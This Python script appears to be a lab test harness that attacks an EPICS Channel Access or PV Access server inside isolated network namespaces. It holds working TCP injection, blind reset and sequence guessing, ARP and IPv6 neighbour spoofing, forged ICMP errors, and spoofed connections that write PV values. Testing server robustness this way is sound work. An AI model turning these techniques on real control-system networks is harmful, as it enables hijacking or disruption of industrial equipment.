"""Somebody on a third host of a network sends frames with the address of a client to its server.

    third_host.py PROTOCOL FAMILY PORT CA_PORT PV CLIENT_PID THIRD_PID

The server, with records, is on this host (10.99.0.1, fd99::1) and serves PROTOCOL (ca or pva) on PORT, and Channel
Access, by which PV is read, on CA_PORT. The client's host (10.99.0.2, fd99::2) is the network of CLIENT_PID, that of
the third host (10.99.0.3, fd99::3) the network of THIRD_PID; in each the interface is called cable. FAMILY is 4 or 6.

For each kind of attack there is a circuit of its own, over which the client puts before and after. Says "begins", waits
for a line, and prints a line of JSON for each attack: its kind, the addresses of circuits, the values that the server
took, and whether the circuit is open. Then it says "done"; the circuits stay open until it reads another line. Needs
root.
"""

import contextlib
import ctypes
import json
import os
import random
import socket
import struct
import sys
import threading
import time

import injected
import injected6
from injected import ACK, FIN, PSH, RST, SYN, checksum

CLONE_NEWNET = 0x40000000  # linux/sched.h
ARP, IPV4, IPV6 = 0x0806, 0x0800, 0x86DD
BROADCAST, MULTICAST, NOBODY = b"\xff" * 6, b"\x01\0\x5e\0\0\x01", b"\x02\0\0\0\0\x99"
LIBC = ctypes.CDLL(None, use_errno=True)


@contextlib.contextmanager
def network(pid):
    """This thread in the network of a process."""
    own = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
    other = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    try:
        assert LIBC.setns(other, CLONE_NEWNET) == 0, os.strerror(ctypes.get_errno())
        yield
    finally:
        assert LIBC.setns(own, CLONE_NEWNET) == 0
        os.close(own)
        os.close(other)


def hardware():
    """The hardware address of this network's interface."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as packets:
        packets.bind(("cable", 0))
        return packets.getsockname()[4]


class Watched(injected.Watched):
    """What comes to this host from a client, and goes to it."""

    def __init__(self, client, family):
        self.client, self.family = client, family
        self.next, self.acknowledged, self.stamps = 0, 0, None
        # what the server sends next to a port
        self.served = {}
        self.change = threading.Condition()
        self.packets = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
        self.packets.bind(("cable", 3))
        threading.Thread(target=self.watch, daemon=True).start()

    def watch(self):
        six = self.family == 6
        while True:
            packet, address = self.packets.recvfrom(1 << 17)
            if address[1] != (IPV6 if six else IPV4) or packet[6 if six else 9] != socket.IPPROTO_TCP:
                continue
            tcp = packet[40 if six else 20 :]
            source, target, sequence, acknowledged, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
            length = struct.unpack("!H", packet[4:6])[0] if six else struct.unpack("!H", packet[2:4])[0] - 20
            following = (sequence + length - (offset >> 4) * 4 + bool(flags & (SYN | FIN))) & 0xFFFFFFFF
            if address[2] == injected.OUTGOING:
                self.served[target] = following
            # what is injected has another hop limit
            if source != self.client or packet[7 if six else 8] != 64 or address[2] == injected.OUTGOING:
                continue
            stamps = tcp[20 : (offset >> 4) * 4].find(b"\1\1\x08\x0a")
            with self.change:
                self.next, self.acknowledged = following, acknowledged
                if stamps >= 0:
                    self.stamps = struct.unpack("!II", tcp[24 + stamps : 32 + stamps])


class Hosts:
    """The network, and the client's circuit."""

    def begin(self, family, port, ca_port, pv, there, third):
        self.family, self.there, self.pv = family, there, pv
        kind = socket.AF_INET6 if family == 6 else socket.AF_INET
        self.prefix = "fd99::" if family == 6 else "10.99.0."
        self.ends = {who: f"{self.prefix}{number}" for who, number in (("here", 1), ("there", 2), ("third", 3))}
        self.here = hardware()
        with network(there):
            self.circuit = socket.socket(kind)
            self.other = socket.create_connection(("10.99.0.1", ca_port))
            self.there_hardware = hardware()
        self.circuit.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.circuit.settimeout(5)
        self.circuit.bind((self.ends["there"], 0))
        self.port = self.circuit.getsockname()[1]
        self.watched = Watched(self.port, family)
        self.server = (self.ends["here"], port)
        self.circuit.connect(self.server)
        with network(third):
            self.sends = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
            self.third_hardware = hardware()
        self.other_sid = injected.Injector.channel(self, self.other)
        self.addresses = [self.address(self.port)]

    def address(self, port, host=None):
        host = host or self.ends["there"]
        return f"[{host}]:{port}" if self.family == 6 else f"{host}:{port}"

    def frame(self, protocol, packet, to=None):
        """A frame of the third host."""
        self.sends.sendto((to or self.here) + self.third_hardware + struct.pack("!H", protocol) + packet, ("cable", 0))

    def packet(self, kind, rest, source=None, to=None, hops=63):
        """An IP packet of the client's address."""
        version = socket.AF_INET6 if self.family == 6 else socket.AF_INET
        ends = [socket.inet_pton(version, end) for end in (source or self.ends["there"], self.ends["here"])]
        if self.family == 6:
            ip = struct.pack("!IHBB", 6 << 28, len(rest), kind, hops) + ends[0] + ends[1]
            self.frame(IPV6, ip + rest, to)
            return
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(rest), 1, 0x4000, hops, kind, 0) + ends[0] + ends[1]
        self.frame(IPV4, ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + rest, to)

    def sum(self, kind, rest, source=None):
        """The checksum of what goes over IP."""
        version = socket.AF_INET6 if self.family == 6 else socket.AF_INET
        ends = [socket.inet_pton(version, end) for end in (source or self.ends["there"], self.ends["here"])]
        return checksum(ends[0] + ends[1] + struct.pack("!IxxxB", len(rest), kind) + rest)

    def segment(self, sequence, acknowledged, flags, payload=b"", port=None, source=None, to=None, stamps=True):
        options = b""
        if stamps and self.watched.stamps:
            options = struct.pack("!BBBBII", 1, 1, 8, 10, *self.watched.stamps)
        tcp = struct.pack(
            "!HHIIBBHHH",
            port or self.port,
            self.server[1],
            sequence & 0xFFFFFFFF,
            acknowledged & 0xFFFFFFFF if flags & ACK else 0,
            (5 + len(options) // 4) << 4,
            flags,
            512,
            0,
            0,
        )
        tcp += options + payload
        total = self.sum(socket.IPPROTO_TCP, tcp, source)
        self.packet(socket.IPPROTO_TCP, tcp[:16] + struct.pack("!H", total) + tcp[18:], source, to)

    def near(self, at, flags, payload=b"", **more):
        """A segment with the numbers that the client would send next, or at a distance from them."""
        self.segment(self.watched.next + at, self.watched.acknowledged, flags, payload, **more)

    def guessed(self, flags, payload=b""):
        for _ in range(300):
            self.segment(random.getrandbits(32), random.getrandbits(32), flags, payload)

    def unreachable(self, kind, code, rest=0):
        """ICMP that quotes what the server has sent last."""
        tcp = struct.pack("!HHI", self.server[1], self.port, self.watched.acknowledged)
        if self.family == 6:
            ends = [socket.inet_pton(socket.AF_INET6, self.ends[end]) for end in ("here", "there")]
            quoted = struct.pack("!IHBB", 6 << 28, 60, socket.IPPROTO_TCP, 64) + ends[0] + ends[1] + tcp + bytes(52)
            message = struct.pack("!BBHI", kind, code, 0, rest) + quoted
            total = self.sum(socket.IPPROTO_ICMPV6, message)
            self.packet(socket.IPPROTO_ICMPV6, message[:2] + struct.pack("!H", total) + message[4:])
            return
        ends = [socket.inet_aton(self.ends[end]) for end in ("here", "there")]
        quoted = struct.pack("!BBHHHBBH", 0x45, 0, 80, 1, 0x4000, 64, 6, 0) + ends[0] + ends[1] + tcp
        message = struct.pack("!BBHI", kind, code, 0, rest) + quoted
        self.packet(socket.IPPROTO_ICMP, message[:2] + struct.pack("!H", checksum(message)) + message[4:])

    def claim(self, whose):
        """Tells the server that the client's address is at this hardware address."""
        if self.family == 6:
            client = socket.inet_pton(socket.AF_INET6, self.ends["there"])
            # neighbour advertisement: override, with the target's hardware address
            message = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + client + b"\x02\x01" + whose
            total = self.sum(socket.IPPROTO_ICMPV6, message)
            self.packet(socket.IPPROTO_ICMPV6, message[:2] + struct.pack("!H", total) + message[4:], hops=255)
            return
        client = socket.inet_aton(self.ends["there"])
        self.frame(
            ARP, struct.pack("!HHBBH", 1, IPV4, 6, 4, 2) + whose + client + self.here + socket.inet_aton("10.99.0.1")
        )

    def neighbour(self):
        lines = os.popen(f"ip neigh show {self.ends['there']} dev cable").read()
        return bytes.fromhex(lines.split("lladdr ")[1].split()[0].replace(":", ""))

    def opens(self, lucky, value, host=None):
        """A whole circuit, of which the server's answers go elsewhere. `lucky`: its first number is guessed right."""
        port, first = random.randrange(10000, 30000), random.getrandbits(31)
        source = f"{self.prefix}{host}" if host else None
        self.addresses.append(self.address(port, source))
        send = lambda *rest: self.segment(*rest, port=port, source=source, stamps=False)
        self.watched.served.pop(port, None)
        send(first, 0, SYN)
        time.sleep(0.05)
        answer = self.watched.served.get(port, 0) if lucky else random.getrandbits(32)
        send(first + 1, answer, ACK)
        at = first + 1
        for part in self.opening():
            send(at, answer, PSH | ACK, part)
            at += len(part)
            time.sleep(0.02)
        send(at, answer, PSH | ACK, self.blind(value))

    def is_open(self):
        """Whether the server's end of the client's circuit is established."""
        for version in "tcp", "tcp6":
            with open(f"/proc/thread-self/net/{version}") as table:
                for words in map(str.split, table):
                    ends = [end.rpartition(":")[2] for end in words[1:3]]
                    if ends == [f"{self.server[1]:04X}", f"{self.port:04X}"] and words[3] == "01":
                        return True
        return False

    def attack(self, kind, value):
        """Returns what the client has put before, and after."""
        took = [self.put(value)["took"]]
        KINDS[kind](self, value + 1)
        took.append(self.settle()["took"])
        for number in (value + 2, value + 3):
            try:
                took.append(self.put(number)["took"])
            except OSError:
                assert not self.is_open(), "the circuit is open"
        is_open = self.is_open()
        distinct = list(dict.fromkeys(took))
        return {"kind": kind, "addresses": self.addresses, "took": distinct, "open": is_open}


class ChannelAccess(Hosts, injected.Injector):
    def __init__(self, *arguments):
        self.begin(*arguments)
        self.sid = self.channel(self.circuit)

    def opening(self):
        message = injected.message
        hello = message(0, 0, 13) + message(20, payload=b"blind\0") + message(21, payload=b"blindhost\0")
        return [hello + message(18, p1=1, p2=13, payload=self.pv.encode() + b"\0")]

    def blind(self, value):
        # the server numbers channels one by one
        return injected.message(4, 5, 1, max(self.sid, self.other_sid) + 1, 1, struct.pack(">i", value))


class PvAccess(Hosts, injected6.Injector):
    def __init__(self, *arguments):
        self.begin(*arguments)
        self.prepare()

    def opening(self):
        pva, text = injected6.pva, injected6.text
        who = b"\xfd\x01\0\x80\0\x02" + text(b"user") + b"\x60" + text(b"host") + b"\x60" + text(b"blind")
        return [
            pva(1, struct.pack("<IHH", 0x4400, 0x7FFF, 0) + text(b"ca") + who + text(b"blindhost")),
            pva(7, struct.pack("<HI", 1, 1) + text(self.pv.encode())),
            pva(11, struct.pack("<IIB", self.sid, 7, 8) + b"\x80\0\0"),
        ]

    def blind(self, value):
        return self.of(value)


def silence(hosts, value):
    """Longer than anybody waits for what is missing."""
    hosts.near(5000, PSH | ACK, hosts.of(value))
    time.sleep(3)


def taken_over(hosts, value):
    for whose in hosts.third_hardware, hosts.there_hardware:
        for _ in range(100):
            hosts.claim(whose)
            time.sleep(0.05)
            if hosts.neighbour() == whose:
                break
        assert hosts.neighbour() == whose, "the server believes it"
        if whose == hosts.third_hardware:
            hosts.near(0, PSH | ACK, hosts.of(value))
            time.sleep(0.1)


def errors(hosts, value):
    for code in (0, 1, 3, 4) if hosts.family == 6 else (1, 2, 3, 9, 13):
        hosts.unreachable(1 if hosts.family == 6 else 3, code)


def too_big(hosts, value):
    for size in 1280, 600:
        hosts.unreachable(*((2, 0) if hosts.family == 6 else (3, 4)), size)


KINDS = {
    "nothing": lambda hosts, value: None,
    "reset, guessed": lambda hosts, value: hosts.guessed(RST),
    "reset with data, guessed": lambda hosts, value: hosts.guessed(RST | ACK, hosts.of(value)),
    "opening, guessed": lambda hosts, value: hosts.guessed(SYN),
    "answer, guessed": lambda hosts, value: hosts.guessed(SYN | ACK),
    "end, guessed": lambda hosts, value: hosts.guessed(FIN | ACK),
    "data, guessed": lambda hosts, value: hosts.guessed(PSH | ACK, hosts.of(value)),
    "reset in the window": lambda hosts, value: [hosts.near(at, RST) for at in (-1, 1, 100, 5000)],
    "opening in the window": lambda hosts, value: [hosts.near(at, SYN) for at in (-1, 0, 1, 100, 5000)],
    "end in the window": lambda hosts, value: [hosts.near(at, FIN | ACK) for at in (-1, 1, 5000)],
    "end behind the next put": lambda hosts, value: hosts.near(len(hosts.of(value)), FIN | ACK),
    "data before the window": lambda hosts, value: hosts.near(-1000, PSH | ACK, hosts.of(value)),
    "data behind the window": lambda hosts, value: hosts.near(1 << 25, PSH | ACK, hosts.of(value)),
    "data in the window": lambda hosts, value: hosts.near(5000, PSH | ACK, hosts.of(value)),
    "data in the window, and silence": silence,
    "data": lambda hosts, value: hosts.near(0, PSH | ACK, hosts.of(value)),
    "reset": lambda hosts, value: hosts.near(0, RST),
    "end": lambda hosts, value: hosts.near(0, FIN | ACK),
    "data to another host": lambda hosts, value: hosts.near(0, PSH | ACK, hosts.of(value), to=NOBODY),
    "data to all hosts": lambda hosts, value: hosts.near(0, PSH | ACK, hosts.of(value), to=BROADCAST),
    "data to many hosts": lambda hosts, value: hosts.near(0, PSH | ACK, hosts.of(value), to=MULTICAST),
    "reset to another host": lambda hosts, value: hosts.near(0, RST, to=NOBODY),
    "end to another host": lambda hosts, value: hosts.near(0, FIN | ACK, to=BROADCAST),
    "unreachable": errors,
    "too big": too_big,
    "taken over": taken_over,
    "a circuit that the client refuses": lambda hosts, value: hosts.opens(False, value),
    "a circuit of nobody, number wrong": lambda hosts, value: hosts.opens(False, value, 77),
    "a circuit of nobody, number right": lambda hosts, value: hosts.opens(True, value, 77),
}


def main():
    protocol, *rest = sys.argv[1:]
    family, port, ca_port = map(int, rest[:3])
    arguments = family, port, ca_port, rest[3], *map(int, rest[4:])
    # a host that is off, but has been there
    host = "fd99::77" if family == 6 else "10.99.0.77"
    os.system(f"ip neigh replace {host} lladdr 02:00:00:00:00:77 dev cable")
    kept = []
    print("begins", flush=True)
    sys.stdin.readline()
    for number, kind in enumerate(KINDS, 1):
        hosts = (ChannelAccess if protocol == "ca" else PvAccess)(*arguments)
        kept.append(hosts)
        print(json.dumps(hosts.attack(kind, number * 1000)), flush=True)
    print("done", flush=True)
    sys.stdin.readline()


if __name__ == "__main__":
    main()
